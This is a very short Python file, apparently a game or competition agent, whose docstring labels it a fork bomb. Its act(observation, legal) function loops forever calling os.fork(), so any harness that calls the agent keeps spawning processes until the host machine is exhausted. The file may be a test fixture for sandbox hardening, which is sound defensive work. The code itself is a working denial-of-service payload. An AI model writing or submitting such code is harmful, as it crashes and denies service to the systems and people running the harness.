"""A fork bomb."""

import os


def act(observation, legal):
    while True:
        os.fork()
